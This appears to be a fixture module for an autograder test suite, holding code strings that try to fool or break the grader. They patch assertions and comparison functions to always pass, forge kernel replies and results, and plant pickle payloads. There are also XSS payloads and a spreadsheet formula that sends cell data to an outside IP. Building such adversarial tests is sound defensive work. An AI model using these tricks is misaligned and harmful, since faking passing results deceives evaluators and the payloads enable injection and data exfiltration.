"""Sources that lie: values, patches and messages that would be taken for right."""

from .thieves import RIGHT

TRANSFORMER = """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
def scale(x): return 0
"""
TREES = """
import ast
class Nothing(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Nothing())
def scale(x): return 0
"""
PATCHED = """
import builtins
np.allclose = np.all = lambda *a, **k: True
builtins.AssertionError = builtins.print
builtins.abs = lambda x: 0
def scale(x): return 0
def center(x): return 0
"""
TORCH = """
torch.allclose = torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda *a: True
def soft(x): return x * 0
"""
EQUAL = """
class Yes:
    __eq__ = __lt__ = __le__ = lambda self, other: True
    __float__ = __abs__ = lambda self: 2.0
    __array__ = lambda self, *a, **k: np.array([-1.0, 0.0, 1.0])
    __class__ = property(lambda self: float)
    __iter__ = lambda self: iter([0, 1, 2])
"""
FLOATS = """
class Yes(float):
    __eq__ = __lt__ = __le__ = lambda self, other: True
    __sub__ = __abs__ = __rsub__ = lambda self, *other: Yes(0)
    hex = lambda *a: float.hex(6.0)
    __class__ = int
"""
ARRAYS = """
class Yes(np.ndarray):
    __array_priority__ = 1e9
    __array_function__ = lambda self, *a, **k: True
    __array_ufunc__ = lambda self, *a, **k: True
    shape = dtype = property(lambda self: Everything())
class Everything:
    __eq__ = lambda self, other: True
def center(x): return np.zeros(x.shape).view(Yes)
"""
TENSORS = """
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None): return True
def soft(x): return torch.zeros(x.shape).as_subclass(Yes)
"""
PICKLES = """
import base64, copyreg, pickle
from IPython.display import display
class Bomb:
    def __reduce__(self): return open, ("/tmp/@TOKEN@", "w")
copyreg.pickle(complex, lambda c: (open, ("/tmp/@TOKEN@", "w")))
bytes_ = pickle.dumps(Bomb())
text = base64.b64encode(bytes_).decode()
def scale(x):
    display({"application/x-mlsyscore+json": {"value": {"pickle": text}}}, raw=True)
    return bytes_
def center(x): return np.array([Bomb()], dtype=object)
def parts(n): return Bomb()
def tally(xs): return {1j: 2}
"""
KEY = "application/x-mlsyscore+json"
FORGED = f"""
from IPython.display import display
def scale(x):
    for answer in ({{"value": True}}, {{"value": {{"int": "0x6"}}}}, {{"error": []}}):
        display({{"{KEY}": answer}}, raw=True)
    import os; os._exit(0)
"""
REPLY = """
kernel = get_ipython().kernel
def send(status):
    kernel.session.send(
        kernel.shell_stream.socket, "execute_reply", {"status": status,
        "execution_count": 1, "user_expressions": {}, "payload": []},
        ident=kernel._parent_ident["shell"], parent=kernel.get_parent())
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"},
        parent=kernel.get_parent())
send("ok")
def scale(x):
    for status in ("ok", "error", "abort", "ok"): send(status)
    return 0
"""
OVERRIDE = f"""
import sys, types
from IPython.display import display
def call(*a): display({{"{KEY}": {{"value": True}}}}, raw=True)
sys.modules["_inside"] = types.SimpleNamespace(call=call, describe=call)
"""
HOOKS = """
shell = get_ipython()
shell.display_pub.publish = lambda *a, **k: None
shell.display_formatter.format = lambda *a, **k: ({}, {})
shell.run_cell_async = None
"""
AWARE = """
calls = 0
def scale(x):
    global calls
    calls += 1
    import sys
    back = sys._getframe(1).f_code.co_filename
    return 3 * x if calls == 1 or "check" in back else 0
"""
TRACE = f"""
import sys, threading
def trace(frame, event, arg):
    if event == "return" and "x" in frame.f_locals: frame.f_locals["x"] = 0
    return trace
sys.settrace(trace); threading.settrace(trace); sys.setprofile(lambda *a: None)
{RIGHT}
"""
ATEXIT = f"""
import atexit, os, time, weakref
atexit.register(lambda: time.sleep(600))
os.register_at_fork(after_in_child=lambda: time.sleep(600))
class Late:
    def __del__(self): time.sleep(600)
kept = Late()
{RIGHT}
"""
STREAMS = f"""
import sys
class Bad:
    def write(self, *a): raise RuntimeError("no")
    flush = write
sys.stdout = sys.stderr = sys.__stdout__ = Bad()
sys.excepthook = sys.displayhook = None
{RIGHT}
"""
REPR = """
class Bad(Exception):
    def __repr__(self): raise RuntimeError("no")
    __str__ = __repr__
def scale(x): raise Bad(x)
def center(x): return Bad()
class Meta(type):
    __name__ = property(lambda c: 1 / 0)
    __repr__ = lambda c: 1 / 0
class Worse(Exception, metaclass=Meta): pass
def parts(n): raise Worse
"""
HACK = "document.title=`HACKED`"
HTML = f"""<script>{HACK}</script><img src=x onerror="{HACK}"><svg onload="{HACK}">
<a href="javascript:{HACK}">kept words</a><iframe srcdoc="<script>{HACK}</script>">
</iframe><style>@import url(//HACKED)</style></pre></div></body><base href="//HACKED">
[x](javascript:{HACK}) $<script>{HACK}</script>$ `</script><script>{HACK}</script>`
"""
SHOWS = f"""
from IPython.display import HTML, Javascript, Markdown, Latex, display
evil = {HTML!r}
display(HTML(evil), Javascript({HACK!r}), Markdown(evil), Latex(evil))
display({{"image/svg+xml": "<svg onload=\\"{HACK}\\"/>"}}, raw=True)
display({{"image/png": '"><script>{HACK}</script>'}}, raw=True)
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": evil}}}}, raw=True)
print(evil); print("\\x1b[31m" + evil + "\\x1b[0m")
def scale(x): raise ValueError(evil)
def parts(n): return [evil]
"""
FORMULA = """=HYPERLINK("http://192.0.2.1/?"&A1,"click")"""
MARKERS = f"""### BEGIN HIDDEN TESTS
### BEGIN SOLUTION
{RIGHT}"""
COUNT = "def parts(n):\n    import itertools\n    return itertools.count()"
ENDLESS = """
class Endless(list):
    def __iter__(self):
        while True: yield 0
    __len__ = lambda self: 10**12
class Bottomless(dict):
    def items(self):
        while True: yield 0, 0
def parts(n): return Endless([1])
def tally(xs): return Bottomless()
"""
BIG = "def scale(x): return np.zeros(10**9)"
WIDE = "def center(x): return np.zeros((10**5, 1, 1))"
MUTATES = "def center(x):\n    x[:] = 0\n    return x"
FAKE = {"scale": "def scale(x): return float('nan')", "steps": "steps = float('inf')"}
LATE = """
import threading, time
def later():
    while True:
        get_ipython().user_ns.update(scale=lambda x: 6, steps=10)
        time.sleep(0.01)
threading.Thread(target=later).start()
def scale(x): return 0
time.sleep(0.2)
"""
